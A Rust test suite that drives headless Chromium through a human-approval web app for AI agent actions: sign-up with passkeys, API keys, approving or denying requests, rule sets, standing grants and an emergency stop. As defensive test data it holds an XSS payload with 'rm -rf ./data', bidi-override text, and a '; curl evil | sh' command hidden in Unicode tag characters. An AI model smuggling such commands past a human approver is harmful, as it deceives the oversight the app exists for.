//! The web app in a real browser: Debian's Chromium, headless, with the DevTools WebAuthn
//! virtual authenticator standing in for Touch ID. An agent asks over plain HTTP; a person signs
//! up, creates the agent's key, approves and denies in the page.
//!
//! Screenshots of every main page, at desktop and phone width, land in `target/screenshots/`.

use crate::harness::browser::{Tab, UI_DEADLINE, chrome, new_key_in_page, sign_up};
use crate::harness::{Auth, TestApp};
use chromiumoxide::cdp::browser_protocol::browser::{
    PermissionDescriptor, PermissionSetting, SetPermissionParams,
};
use chromiumoxide::cdp::browser_protocol::service_worker::{
    DeliverPushMessageParams, EnableParams as ServiceWorkerEnableParams, EventWorkerRegistrationUpdated,
};
use clawgate::config::Backend;
use futures::StreamExt;
use serde_json::{Value, json};
use std::time::{Duration, Instant};

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn sign_up_create_key_approve_and_deny_in_the_browser() {
    let Some(chrome) = chrome().await else { return };
    let app = TestApp::spawn(Backend::Sqlite).await.expect("server");
    let tab = Tab::open(&chrome, &app.origin).await;

    // Sign up: an email, then a passkey made by the (virtual) platform authenticator.
    tab.wait("document.querySelector('#signup')", "the sign-up form").await;
    tab.screenshot("sign-in").await;
    tab.type_into("#signup-email", "ada@example.com").await;
    tab.click("#signup").await;
    tab.wait("!document.querySelector('#nav').hidden && document.querySelector('h1')?.textContent === 'Waiting for you'", "the pending page after sign-up").await;
    assert_eq!(app.scalar_i64("SELECT COUNT(*) FROM passkeys").await, 1);

    // The session is an HttpOnly cookie that page script cannot read.
    let cookies = tab.page.get_cookies().await.expect("cookies");
    let session = cookies.iter().find(|c| c.name == "clawgate_session").expect("a session cookie");
    assert!(session.http_only, "the session cookie is HttpOnly");
    assert_eq!(format!("{:?}", session.same_site), "Some(Strict)");
    let visible = tab.eval("document.cookie").await;
    assert!(
        !visible.as_str().unwrap_or("").contains("clawgate_session"),
        "script cannot see the session: {visible}"
    );

    // An API key, created in the page and shown once.
    tab.click("nav a[href='/keys']").await;
    tab.type_into("#key-name", "deploy bot").await;
    tab.click("form button[type=submit]").await;
    let key = tab.wait("document.querySelector('#new-key-value')?.value", "the new API key").await;
    let key = key.as_str().expect("key").to_owned();
    assert!(key.starts_with("ag_"));
    tab.screenshot("api-keys").await;

    // The agent asks; the pending page shows it without a reload.
    tab.click("nav a[href='/']").await;
    tab.wait("document.querySelector('#nothing-pending')", "the empty pending list").await;
    tab.eval("window.__notReloaded = true").await;
    let first = app
        .post(
            "/api/v1/approval/request",
            &Auth::Bearer(key.clone()),
            json!({ "action": "deploy api@v2 to production", "agentId": "release-bot", "context": { "commit": "4f2a9c1", "services": ["api", "worker"] } }),
        )
        .await
        .expect(201);
    let first_id = first.body["requestId"].as_str().expect("id").to_owned();
    tab.wait(
        &format!("document.querySelector('[data-request={first_id:?}]')"),
        "the new request to appear by itself",
    )
    .await;
    assert_eq!(tab.eval("window.__notReloaded === true").await, json!(true), "no reload happened");
    tab.screenshot("pending").await;

    // The approval page: the whole action, the agent, the binding code; approve with the passkey.
    tab.click(&format!("[data-request={first_id:?}] a")).await;
    tab.wait("document.querySelector('#approve')", "the approve button").await;
    assert_eq!(tab.text("#binding-code").await, first.body["bindingCode"].as_str().expect("code"));
    assert!(tab.text("main").await.contains("deploy api@v2 to production"));
    assert!(tab.text("main").await.contains("release-bot"));
    tab.screenshot("approval").await;
    tab.click("#approve").await;
    tab.wait("document.querySelector('.badge.APPROVED')", "the approved badge").await;
    let status = app.status(&key, &first_id).await.expect(200);
    assert_eq!(status.body["status"], "APPROVED");
    let token = status.body["token"].as_str().expect("a token");
    let verified = app.verify(json!({ "token": token, "action": "deploy api@v2 to production" })).await;
    assert_eq!(verified.body["valid"], true, "{}", verified.text);

    // A hostile request: markup, a direction override and a control character in agent text.
    let hostile_action = "<img src=x onerror=\"document.title='pwned'\"> rm -rf ./data \u{202E}gpj.exe\u{7}";
    let second = app
        .post(
            "/api/v1/approval/request",
            &Auth::Bearer(key.clone()),
            json!({ "action": hostile_action, "agentId": "<b>bot</b>", "context": { "note": "<script>alert(1)</script>\u{2066}x" } }),
        )
        .await
        .expect(201);
    let second_id = second.body["requestId"].as_str().expect("id").to_owned();
    tab.navigate(&format!("{}/approve/{second_id}", app.origin)).await;
    tab.wait("document.querySelector('#deny')", "the deny button").await;
    assert_eq!(
        tab.eval("document.querySelectorAll('main img, main script, main b').length").await,
        json!(0),
        "agent markup stays text"
    );
    let shown = tab.text("pre.action").await;
    assert!(shown.contains("<img src=x onerror="), "the markup is shown as text: {shown}");
    assert!(
        shown.contains("U+202E") && shown.contains("U+0007"),
        "invisible characters are shown as code points: {shown}"
    );
    assert!(!shown.contains('\u{202E}'), "the override itself never reaches the page");
    let page_text = tab.text("main").await;
    assert!(page_text.contains("U+2066"), "the context's isolate shows too: {page_text}");
    assert_ne!(tab.eval("document.title").await, json!("pwned"));
    tab.screenshot("approval-hostile").await;
    tab.type_into("#deny-reason", "not on a Friday").await;
    tab.click("#deny").await;
    tab.wait("document.querySelector('.badge.DENIED')", "the denied badge").await;
    let status = app.status(&key, &second_id).await.expect(200);
    assert_eq!(status.body["status"], "DENIED");
    assert!(status.body.get("token").is_none());

    // With user verification failing, approving fails in words and the request stays pending.
    let third = app.ask(&key, "drop database analytics").await;
    tab.set_user_verified(false).await;
    tab.navigate(&format!("{}/approve/{}", app.origin, third.id)).await;
    tab.click("#approve").await;
    let error = tab.wait("document.querySelector('.notice.error')?.textContent", "an error message").await;
    assert!(error.as_str().unwrap_or("").contains("Nothing was changed"), "{error}");
    assert_eq!(app.status(&key, &third.id).await.expect(200).body["status"], "PENDING");
    tab.set_user_verified(true).await;

    // History, filtered.
    tab.click("nav a[href='/history']").await;
    tab.wait(
        "document.querySelectorAll('#history [data-request]').length === 3",
        "three requests in history",
    )
    .await;
    tab.eval("const s = document.querySelector('#status-filter'); s.value = 'DENIED'; s.dispatchEvent(new Event('change'))").await;
    tab.wait("document.querySelectorAll('#history [data-request]').length === 1", "only the denied request")
        .await;
    tab.screenshot("history").await;

    // Passkeys: listed and renamed.
    tab.click("nav a[href='/passkeys']").await;
    tab.wait("document.querySelector('#passkeys li')", "the passkey list").await;
    tab.eval("const f = document.querySelector('#passkeys input'); f.value = 'Work laptop'").await;
    tab.click("#passkeys li button").await;
    tab.wait("document.querySelector('#toast')?.textContent === 'Renamed.'", "the rename").await;
    let name: String = sqlx::query_scalar("SELECT name FROM passkeys")
        .fetch_one(app.state.db.pool())
        .await
        .expect("passkey");
    assert_eq!(name, "Work laptop");
    tab.screenshot("passkeys").await;
    tab.click("nav a[href='/notifications']").await;
    let push =
        tab.wait("document.querySelector('#push-state')?.dataset.ready", "the notification settings").await;
    eprintln!("notifications in headless Chromium: {push}");
    tab.screenshot("notifications").await;

    // Sign out, then back in with the passkey.
    tab.click("#signout").await;
    tab.wait("document.querySelector('#signin')", "the sign-in form").await;
    tab.type_into("#signin-email", "ada@example.com").await;
    tab.click("#signin").await;
    tab.wait(
        "document.querySelector('h1')?.textContent === 'Waiting for you'",
        "the pending page after sign-in",
    )
    .await;
    tab.wait(
        &format!("document.querySelector('[data-request={:?}]')", third.id),
        "the still-pending request",
    )
    .await;
}

/// The app is installable: a manifest with icons, and a service worker that turns a push into a
/// notification leading to the request's page.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_app_is_installable_and_its_service_worker_runs() {
    let Some(chrome) = chrome().await else { return };
    let app = TestApp::spawn(Backend::Sqlite).await.expect("server");
    let tab = Tab::open(&chrome, &app.origin).await;
    tab.wait("document.querySelector('#signup')", "the page").await;
    let manifest =
        tab.eval("fetch(document.querySelector('link[rel=manifest]').href).then(r => r.json())").await;
    assert_eq!(manifest["display"], "standalone");
    assert!(manifest["icons"].as_array().is_some_and(|i| i.iter().any(|i| i["sizes"] == "512x512")));
    let ready = "navigator.serviceWorker.ready.then(r => r.active?.state === 'activated')";
    assert_eq!(tab.wait(ready, "the service worker").await, json!(true));

    // A push, delivered to the service worker as a push service would: it shows a notification
    // that names the agent and, when clicked, opens that request's page.
    let mut registrations =
        tab.page.event_listener::<EventWorkerRegistrationUpdated>().await.expect("events");
    tab.page.execute(ServiceWorkerEnableParams::default()).await.expect("ServiceWorker domain");
    let registration = loop {
        let update =
            tokio::time::timeout(UI_DEADLINE, registrations.next()).await.expect("a registration event");
        let update = update.expect("event stream");
        if let Some(r) = update.registrations.iter().find(|r| !r.is_deleted) {
            break r.registration_id.clone();
        }
    };
    let permission = SetPermissionParams::builder()
        .permission(PermissionDescriptor::new("notifications"))
        .setting(PermissionSetting::Granted)
        .origin(app.origin.clone())
        .build()
        .expect("permission");
    chrome.browser.execute(permission).await.expect("notifications allowed");
    let request_id = "req_0123456789ABCDEFGHIJKL";
    let payload = json!({ "type": "approval_request", "requestId": request_id, "agentId": "release-bot", "title": "release-bot asks for approval", "count": 1 });
    let notification = "navigator.serviceWorker.ready.then(r => r.getNotifications()).then(ns => ns.length > 0 && \
         JSON.stringify({ title: ns[0].title, body: ns[0].body, tag: ns[0].tag, url: ns[0].data.url }))";
    // DevTools hands the push to a worker Chromium may have stopped; on a loaded machine the first
    // delivery has once been seen to show nothing in 45 s. A push service retries too: deliver again
    // (the same tag replaces, so a second copy changes nothing) before the last, full wait.
    for _ in 0..3 {
        let push =
            DeliverPushMessageParams::new(app.origin.clone(), registration.clone(), payload.to_string());
        tab.page.execute(push).await.expect("push delivered");
        let started = Instant::now();
        while started.elapsed() < Duration::from_secs(10) {
            if tab.try_eval(notification).await.is_ok_and(|v| v.is_string()) {
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        if tab.try_eval(notification).await.is_ok_and(|v| v.is_string()) {
            break;
        }
    }
    let shown = tab.wait(notification, "the notification").await;
    let shown: Value = serde_json::from_str(shown.as_str().expect("json")).expect("json");
    assert_eq!(shown["title"], "release-bot asks for approval");
    assert_eq!(shown["tag"], "clawgate", "one notification for what waits, replaced by newer ones");
    assert_eq!(shown["url"], format!("/approve/{request_id}"));
    assert!(shown["body"].as_str().is_some_and(|b| b.contains("release-bot")));

    // Several requests collapsed into one push open the list; a request id that is not one of
    // ours opens nothing but the app itself; a suspended key opens the keys page.
    for (payload, url) in [
        (
            json!({ "type": "approval_request", "requestId": request_id, "title": "3 approval requests are waiting", "count": 3 }),
            "/",
        ),
        (json!({ "type": "approval_request", "requestId": "https://evil.example/", "title": "x" }), "/"),
        (
            json!({ "type": "api_key_suspended", "apiKeyId": "key_0123456789ABCDEFGHIJKL", "title": "API key suspended" }),
            "/keys",
        ),
    ] {
        let title = payload["title"].as_str().expect("title").to_owned();
        let push =
            DeliverPushMessageParams::new(app.origin.clone(), registration.clone(), payload.to_string());
        tab.page.execute(push).await.expect("push");
        let js = format!(
            "navigator.serviceWorker.ready.then(r => r.getNotifications()).then(ns => {{ \
             const n = ns.find(n => n.title === {title:?}); return n ? n.data.url : ''; }})"
        );
        assert_eq!(tab.wait(&js, &format!("the notification {title:?}")).await, json!(url));
    }

    let csp = app.http.get(&app.origin).send().await.expect("page");
    let policy = csp.headers()["content-security-policy"].to_str().expect("ascii").to_owned();
    assert!(policy.contains("script-src 'self'") && !policy.contains("unsafe-inline"), "{policy}");
}

/// Review R1: the page marks exactly the code points the server marks (its rule is the server's,
/// served as /text-rule.js), over every code point; and a command hidden in tag characters after
/// `echo hello` shows on the approval page as code points.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_page_marks_exactly_what_the_server_marks() {
    let Some(chrome) = chrome().await else { return };
    let app = TestApp::spawn(Backend::Sqlite).await.expect("server");
    let tab = Tab::open(&chrome, &app.origin).await;
    tab.wait("document.querySelector('#signup')", "the page").await;

    // Every code point but the surrogates, through the page's own marking function, in one go.
    let js = r#"import('/dom.js').then(({ visibleText }) => {
        const parts = [];
        for (let c = 0; c <= 0x10FFFF; c++) if (c < 0xD800 || c > 0xDFFF) parts.push(String.fromCodePoint(c));
        const frag = visibleText(parts.join(''));
        const ranges = [];
        let plain = 0;
        for (const node of frag.childNodes) {
          if (node.nodeType === Node.TEXT_NODE) { for (const _ of node.data) plain++; continue; }
          const c = parseInt(node.textContent.slice(2), 16);
          const last = ranges[ranges.length - 1];
          if (last && last[1] === c - 1) last[1] = c; else ranges.push([c, c]);
        }
        return JSON.stringify({ ranges, plain });
    })"#;
    let result = tokio::time::timeout(Duration::from_secs(60), tab.page.evaluate(js))
        .await
        .expect("the page marks every code point within a minute")
        .expect("evaluation");
    let result: Value =
        serde_json::from_str(result.value().and_then(Value::as_str).expect("json")).expect("json");
    let page: Vec<(u32, u32)> = serde_json::from_value(result["ranges"].clone()).expect("ranges");
    let server = clawgate::domain::text::marked_ranges();
    assert_eq!(page, server, "the page and the server mark the same code points");
    let marked: u32 = server.iter().map(|(a, b)| b - a + 1).sum();
    assert_eq!(result["plain"], json!(0x11_0000 - 0x800 - marked), "everything else is shown as itself");

    // A person, an agent key, and a request hiding `; curl evil | sh` in tag characters.
    tab.type_into("#signup-email", "ada@example.com").await;
    tab.click("#signup").await;
    tab.wait("document.querySelector('h1')?.textContent === 'Waiting for you'", "the pending page").await;
    tab.click("nav a[href='/keys']").await;
    tab.type_into("#key-name", "bot").await;
    tab.click("form button[type=submit]").await;
    let key = tab.wait("document.querySelector('#new-key-value')?.value", "the new API key").await;
    let hidden = "; curl evil | sh";
    let tags: String = hidden.chars().filter_map(|c| char::from_u32(0xE0000 + u32::from(c))).collect();
    let asked = app
        .post(
            "/api/v1/approval/request",
            &Auth::Bearer(key.as_str().expect("key").to_owned()),
            json!({ "action": format!("echo hello{tags}") }),
        )
        .await
        .expect(201);
    let id = asked.body["requestId"].as_str().expect("id").to_owned();
    tab.navigate(&format!("{}/approve/{id}", app.origin)).await;
    tab.wait("document.querySelector('#approve')", "the approve button").await;
    let shown = tab.text("pre.action").await;
    let marks: String = hidden.chars().map(|c| format!("U+E00{:02X}", u32::from(c))).collect();
    assert_eq!(shown, format!("echo hello{marks}"), "the hidden command shows as code points");
    assert_eq!(tab.eval("document.querySelectorAll('pre.action .esc').length").await, json!(hidden.len()));
    tab.screenshot("approval-tag-characters").await;
}

/// `POST /api/v1/gate` with an agent key: a Bash call in /srv/app by agent `claude`.
async fn gate(app: &TestApp, key: &str, command: &str) -> crate::harness::Resp {
    let call = json!({"tool": "Bash", "input": {"command": command}, "cwd": "/srv/app", "agentId": "claude"});
    app.post("/api/v1/gate", &Auth::Bearer(key.to_owned()), call).await
}

/// Replaces the rules editor's text by typing `text` into it, then saves in the page.
async fn save_rules_in_page(tab: &Tab, text: &str) {
    tab.eval("document.querySelector('#rules-editor').value = ''").await;
    tab.type_into("#rules-editor", text).await;
    tab.click("#rules-save").await;
}

/// Issue 10 in the page: an agent passes the gate, the rules are edited and tried in the page, a
/// request is approved with a standing grant that then lets a narrower call through, the grant is
/// listed with its use and revoked there, and "Stop all agents" denies what waits and suspends
/// the key.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn an_afternoon_with_the_gate() {
    let Some(chrome) = chrome().await else { return };
    let app = TestApp::spawn(Backend::Sqlite).await.expect("server");
    let tab = Tab::open(&chrome, &app.origin).await;

    // Sign up and make the agent's key.
    sign_up(&tab, "ada@example.com").await;
    let key = new_key_in_page(&tab, "claude").await;

    // The built-in rules let `ls -la` pass: nothing to decide in the app.
    let ls = gate(&app, &key, "ls -la").await.expect(200);
    assert_eq!(ls.body["decision"], "allow", "{}", ls.text);
    tab.click("nav a[href='/']").await;
    tab.wait("document.querySelector('#nothing-pending')", "the empty pending list").await;

    // The rules page: the defaults, version 0; a set that does not parse is refused in words
    // next to the editor, and nothing changes; then `{"default": "ask"}` is saved.
    tab.click("nav a[href='/rules']").await;
    tab.wait("document.querySelector('#rules-editor')?.value.includes('default')", "the rules editor").await;
    assert_eq!(tab.text("#rules-version").await, "0");
    assert!(tab.text("#rules-source").await.contains("defaults"));
    tab.screenshot("rules").await;
    save_rules_in_page(&tab, r#"{"default": "maybe"}"#).await;
    let error =
        tab.wait("document.querySelector('#rules-form .notice.error')?.textContent", "the rules error").await;
    assert!(error.as_str().is_some_and(|e| e.contains("default")), "the error names the field: {error}");
    assert_eq!(tab.text("#rules-version").await, "0", "nothing was saved");
    save_rules_in_page(&tab, r#"{"default": "ask"}"#).await;
    tab.wait("document.querySelector('#rules-saved')", "the rules to be saved").await;
    assert_eq!(tab.text("#rules-version").await, "1");
    assert!(tab.text("#rules-source").await.contains("saved"));

    // Saved elsewhere meanwhile (another tab, here the page's own API helper): saving over it
    // is refused in words, and reopening the page shows the newer version.
    let elsewhere = "import('/api.js').then(m => m.api('PUT', '/rules', { rules: { default: 'ask' }, expectedVersion: 1 })).then(r => r.version)";
    assert_eq!(tab.eval(elsewhere).await, json!(2));
    save_rules_in_page(&tab, r#"{"default": "ask", "rules": []}"#).await;
    let conflict =
        tab.wait("document.querySelector('#rules-form .notice.error')?.textContent", "the conflict").await;
    assert!(conflict.as_str().is_some_and(|c| c.contains("changed elsewhere")), "{conflict}");
    tab.click("nav a[href='/rules']").await;
    tab.wait("document.querySelector('#rules-version')?.textContent === '2'", "the newer version").await;

    // "What would happen?": `cargo test --release` would now be asked about, and why.
    tab.type_into("#explain-target", "cargo test --release").await;
    tab.type_into("#explain-cwd", "/srv/app").await;
    tab.type_into("#explain-agent", "claude").await;
    tab.click("#explain-run").await;
    let outcome = tab.wait("document.querySelector('#explain-outcome')?.textContent", "the dry run").await;
    assert_eq!(outcome, json!("ask"));
    assert!(!tab.text("#explain-result pre.explanation").await.trim().is_empty(), "the explanation shows");
    tab.screenshot("rules-explained").await;

    // The agent asks about `cargo test --release`; it is approved in the page with a grant for
    // commands starting `cargo test`, for 1 hour, with one passkey prompt. The options come
    // narrowest first, in plain words with the command in the page's code styling (issue 17:
    // before, the server's words carried Markdown backticks, "commands starting `cargo test`",
    // which these assertions read).
    let asked = gate(&app, &key, "cargo test --release").await.expect(200);
    assert_eq!(asked.body["decision"], "ask", "{}", asked.text);
    let request = asked.body["requestId"].as_str().expect("requestId").to_owned();
    tab.click("nav a[href='/']").await;
    tab.click(&format!("[data-request={request:?}] a")).await;
    tab.wait("document.querySelector('#grant-choice')", "the grant choice").await;
    let prefix = tab.text("label[for='grant-width-1']").await;
    assert!(prefix.contains("commands starting cargo test"), "the server's words: {prefix}");
    assert!(tab.text("label[for='grant-width-0']").await.contains("exactly cargo test --release"));
    assert_eq!(tab.text("label[for='grant-width-1'] code.command").await, "cargo test");
    assert_eq!(
        tab.eval("document.querySelector('#grant-width-0').checked").await,
        json!(true),
        "exact first"
    );
    assert!(!tab.text("#grant-choice").await.contains('`'), "no Markdown shown literally");
    let durations = tab
        .eval("[...document.querySelectorAll('#grant-ttl option')].map(o => o.textContent).join('|')")
        .await;
    assert_eq!(durations, json!("15 min|1 h|8 h"));
    tab.click("#grant-width-1").await;
    tab.eval("const s = document.querySelector('#grant-ttl'); s.value = '3600'; s.dispatchEvent(new Event('change'))")
        .await;
    tab.type_into("#grant-max-uses", "10").await;
    let limited = tab.text("#approve-grant").await;
    assert!(limited.ends_with("for 1 h, at most 10 uses"), "{limited}");
    tab.eval("const u = document.querySelector('#grant-max-uses'); u.value = ''; u.dispatchEvent(new Event('input'))")
        .await;
    let label = tab.text("#approve-grant").await;
    assert!(
        label.contains("Approve and allow commands starting cargo test") && label.ends_with("for 1 h"),
        "the button says what will be allowed: {label}"
    );
    tab.screenshot("approval-with-grant").await;
    tab.click("#approve-grant").await;
    tab.wait("document.querySelector('.badge.APPROVED')", "the approved badge").await;

    // The approve page shows the grant it made: what, how long, how many uses, which key, and
    // the way to Grants.
    let made = tab.wait("document.querySelector('#grant-made')?.textContent", "the grant made").await;
    let made = made.as_str().expect("text");
    assert!(made.contains("commands starting cargo test, by agent claude, in /srv/app"), "{made}");
    assert!(made.contains("1 h") && made.contains("any number, used 0"), "{made}");
    assert_eq!(tab.text("#grant-made .key-name").await, "claude");
    assert_eq!(
        tab.eval("document.querySelector('#grant-made-link')?.getAttribute('href')").await,
        json!("/grants")
    );
    tab.screenshot("approved-with-grant").await;

    // A narrower call within the grant passes without asking.
    let lib = gate(&app, &key, "cargo test --lib").await.expect(200);
    assert_eq!(
        (&lib.body["decision"], &lib.body["decidedBy"]),
        (&json!("allow"), &json!("grant")),
        "{}",
        lib.text
    );
    let grant = lib.body["grantId"].as_str().expect("grantId").to_owned();

    // The grants page lists it with its one use and time left; revoking it there takes effect.
    tab.click("nav a[href='/grants']").await;
    let card = format!("#grants [data-grant={grant:?}]");
    tab.wait(&format!("document.querySelector({card:?})"), "the grant in the list").await;
    let shown = tab.text(&card).await;
    assert!(shown.contains("commands starting cargo test, by agent claude, in /srv/app"), "{shown}");
    assert_eq!(tab.text(&format!("{card} .key-name")).await, "claude", "the key by its name: {shown}");
    assert!(shown.contains("Used 1") && !shown.contains("Used 1 of"), "one use, no limit: {shown}");
    assert!(shown.contains("59 min") && shown.contains(" s left"), "the time left: {shown}");
    tab.screenshot("grants").await;
    // From the approve page's link too.
    tab.click(&format!("{card} a[href^='/approve/']")).await;
    tab.click("#grant-made-link").await;
    tab.wait(&format!("document.querySelector({card:?})"), "the grant in the list again").await;
    tab.click(&format!("{card} .revoke")).await;
    tab.wait(&format!("document.querySelector({card:?})?.dataset.state === 'revoked'"), "the revoked grant")
        .await;
    let again = gate(&app, &key, "cargo test --lib").await.expect(200);
    assert_eq!(again.body["decision"], "ask", "a revoked grant allows nothing: {}", again.text);
    let waiting = again.body["requestId"].as_str().expect("requestId").to_owned();

    // Stop all agents, with a confirm step: the waiting request is denied, the key suspended.
    tab.click("#stop-all").await;
    tab.wait("document.querySelector('#stop-confirm')", "the confirm step").await;
    tab.screenshot("stop-confirm").await;
    tab.click("#stop-confirm").await;
    let counts = tab.wait("document.querySelector('#stop-counts')?.textContent", "what the stop did").await;
    let counts = counts.as_str().expect("text");
    assert!(
        counts.contains("Denied 1 pending request,") && counts.contains("suspended 1 API key"),
        "{counts}"
    );
    assert!(counts.contains("revoked 0 grants"), "the only grant was already revoked: {counts}");
    tab.screenshot("stopped").await;
    gate(&app, &key, "ls -la").await.expect_error(403, "api_key_suspended");

    // The answer points to the keys page, where the key can be resumed.
    tab.click("#stop-to-keys").await;
    tab.wait("document.querySelector('#keys .resume')", "the Resume button of the suspended key").await;
    tab.navigate(&format!("{}/approve/{waiting}", app.origin)).await;
    tab.wait("document.querySelector('.badge.DENIED')", "the denied request").await;
}

/// Replaces the rules editor's text with `text` (set at once: long sets type slowly), then saves.
async fn put_rules_in_page(tab: &Tab, text: &str) {
    let text = serde_json::to_string(text).expect("a JSON string");
    tab.eval(&format!("document.querySelector('#rules-editor').value = {text}")).await;
    tab.click("#rules-save").await;
}

/// Issue 17 in the page: the rule set reads in a few dozen wrapped lines; a tool name in the
/// wrong case is refused with the fix; a rule no call can reach is saved and its warning shown
/// next to the editor; the set's examples are listed with their outcomes, and one the rules get
/// wrong refuses the save; a version conflict is told once.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_rules_page_refuses_typos_shows_warnings_and_checks_examples() {
    let Some(chrome) = chrome().await else { return };
    let app = TestApp::spawn(Backend::Sqlite).await.expect("server");
    let tab = Tab::open(&chrome, &app.origin).await;
    sign_up(&tab, "ada@example.com").await;
    tab.click("nav a[href='/rules']").await;
    tab.wait("document.querySelector('#rules-editor')?.value.includes('default')", "the rules editor").await;

    // The defaults: one line per rule, long regexes wrapped whole, nothing running off the edge.
    let lines = tab.eval("document.querySelector('#rules-editor').value.split('\\n').length").await;
    assert!(lines.as_u64().is_some_and(|n| n < 40), "{lines} lines");
    let editor = "(() => { const e = document.querySelector('#rules-editor'); return [getComputedStyle(e).whiteSpace, e.scrollWidth <= e.clientWidth]; })()";
    assert_eq!(tab.eval(editor).await, json!(["pre-wrap", true]));
    assert!(tab.eval("document.querySelector('#rules-warnings').hidden").await == json!(true), "no warnings");
    assert!(tab.text("#rules-examples").await.contains("No examples yet"));

    // `bash` for `Bash`: refused, with the fix, and nothing saved.
    let typo = r#"{"default": "allow", "rules": [{"name": "no pushes", "outcome": "deny", "tool": "bash", "command": "git push*"}]}"#;
    put_rules_in_page(&tab, typo).await;
    let error =
        tab.wait("document.querySelector('#rules-form .notice.error')?.textContent", "the refusal").await;
    assert!(error.as_str().is_some_and(|e| e.contains("did you mean `Bash`?")), "{error}");
    assert_eq!(tab.text("#rules-version").await, "0", "nothing was saved");

    // A rule no call can reach is saved, and the warning shows next to the editor; the examples
    // are listed with their outcomes.
    let set = r#"{"default": "allow",
      "rules": [{"name": "no pushes", "outcome": "deny", "tool": "Bash", "command": "git push*"},
                {"name": "no rm in files", "outcome": "deny", "tool": "Write", "command": "rm*"}],
      "examples": [{"command": "git push origin main", "expect": "deny"}, {"command": "ls -la", "expect": "allow"}]}"#;
    put_rules_in_page(&tab, set).await;
    tab.wait("document.querySelector('#rules-saved')", "the rules to be saved").await;
    assert_eq!(tab.text("#rules-version").await, "1");
    let warning = tab.text("#rules-warnings li").await;
    assert!(
        warning.starts_with("Rule 2 \"no rm in files\", command: command patterns match only Bash calls"),
        "{warning}"
    );
    assert_eq!(tab.eval("document.querySelector('#rules-warnings').hidden").await, json!(false));
    let examples = tab
        .eval("[...document.querySelectorAll('#rules-examples li.rules-example')].map(li => li.textContent)")
        .await;
    let examples: Vec<String> = serde_json::from_value(examples).expect("texts");
    assert_eq!(examples.len(), 2, "{examples:?}");
    assert!(
        examples[0].starts_with("deny git push origin main denied by rule 1 \"no pushes\", as expected."),
        "{examples:?}"
    );
    assert!(examples[1].starts_with("allow ls -la allowed by the default, as expected."), "{examples:?}");
    tab.screenshot("rules-warnings-examples").await;

    // An edit that gets an example wrong is refused, saying which and what decided.
    put_rules_in_page(&tab, &set.replace("git push*", "git push --force*")).await;
    let error =
        tab.wait("document.querySelector('#rules-form .notice.error')?.textContent", "the refusal").await;
    assert!(
        error
            .as_str()
            .is_some_and(|e| e
                .contains("example 1 `git push origin main` should be denied but is allowed by the default")),
        "{error}"
    );
    assert_eq!(tab.text("#rules-version").await, "1", "nothing was saved");

    // Saved elsewhere meanwhile: the page says so once, in its own words, with the version now.
    let elsewhere = "import('/api.js').then(m => m.api('PUT', '/rules', { rules: { default: 'ask' }, expectedVersion: 1 })).then(r => r.version)";
    assert_eq!(tab.eval(elsewhere).await, json!(2));
    put_rules_in_page(&tab, r#"{"default": "ask"}"#).await;
    let conflict =
        tab.wait("document.querySelector('#rules-form .notice.error')?.textContent", "the conflict").await;
    let conflict = conflict.as_str().expect("text");
    assert_eq!(conflict.matches("changed").count(), 1, "told once: {conflict}");
    assert!(conflict.contains("changed elsewhere") && conflict.contains("at version 2 now"), "{conflict}");
}
